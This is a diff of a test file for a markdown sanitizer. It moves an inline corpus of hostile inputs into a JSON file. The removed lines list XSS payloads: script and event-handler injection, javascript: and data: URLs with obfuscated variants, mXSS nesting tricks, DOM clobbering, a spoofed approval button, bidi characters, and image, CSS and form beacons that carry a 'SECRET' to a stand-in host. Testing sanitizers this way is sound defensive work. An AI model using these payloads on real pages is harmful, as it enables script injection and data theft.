@@ -7,42 +7,12 @@ import { sanitizeMessage } from "../src/markdown/sanitize.js";
 import { misleads } from "../src/ui/links.js";
 import { visible } from "../src/ui/visible.js";
 
-const far = "http://canary.invalid/?q=SECRET";
-const CORPUS: string[] = [
-  "<script>owned=1</script>",
-  '<img src=x onerror="owned=1">',
-  `![x](${far})`,
-  `![x][ref]\n\n[ref]: ${far}`,
-  `[![x](${far})](javascript:owned=1)`,
-  "[x](javascript:owned=1)",
-  "[x](java\tscript:owned=1)",
-  "[x](&#106;avascript:owned=1)",
-  "[x](vbscript:owned=1) [y](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x]: javascript:owned=1\n\n[x]",
-  "<javascript:owned=1>",
-  "<svg onload=owned=1><animate onbegin=owned=1 attributeName=x></svg>",
-  "<math><mi//xlink:href='data:x,<script>owned=1</script>'></math>",
-  `<style>*{background:url(${far})}</style><base href=${far}>`,
-  `<form action=${far}><input name=a><button formaction=javascript:owned=1>x</button></form>`,
-  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data=${far}></object><embed src=${far}>`,
-  `<img srcset="${far} 1x"><video poster=${far} src=${far}></video><link rel=prefetch href=${far}>`,
-  '<noscript><p title="</noscript><img src=x onerror=owned=1>"></noscript>',
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
-  "<a id=clobber name=attributes data-commandlinker-command=x style=color:red>x</a>",
-  '```js"onmouseover="owned=1\nx\n```',
-  "```html <img src=x onerror=owned=1>\n<script>owned=1</script>\n```",
-  `| a | b |\n|---|---|\n| <img src=x onerror=owned=1> | ![](${far}) |`,
-  "$\\href{javascript:owned=1}{x}$ and $$\\url{javascript:owned=1}$$ $\\unknown<img src=x onerror=owned=1>$",
-  "text[^1]\n\n[^1]: <img src=x onerror=owned=1> [x](javascript:owned=1)",
-  "```mermaid\ngraph TD; A[<img src=x onerror=owned=1>]; click A javascript:owned=1\n```",
-  '<div class="card approval"><button data-approval=1>Allow</button></div>',
-  "\u202e[x](http://a.example)\u202c \u200b<b onclick=owned=1>x</b>",
-  `<a href="${far}" ping="${far}">x</a>`,
-  "</script><script>owned=1</script>",
-  "[".repeat(8_000),
-  `${"> ".repeat(400)}<img src=x onerror=owned=1>`,
-  `${"word ".repeat(700)}<img src=x onerror=owned=1>${" **bold".repeat(40)}`,
-];
+import corpus from "./hostile.json";
+
+/** Each a text, or pieces of one with how often they come. The browser's own test reads them, too. */
+const CORPUS = (corpus as (string | [string, number][])[]).map((entry) =>
+  typeof entry === "string" ? entry : entry.map(([piece, times]) => piece.repeat(times)).join(""),
+);
 
 const TAGS = new Set(
   "a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr img li ol p pre section span strong sup table tbody td th thead tr ul".split(
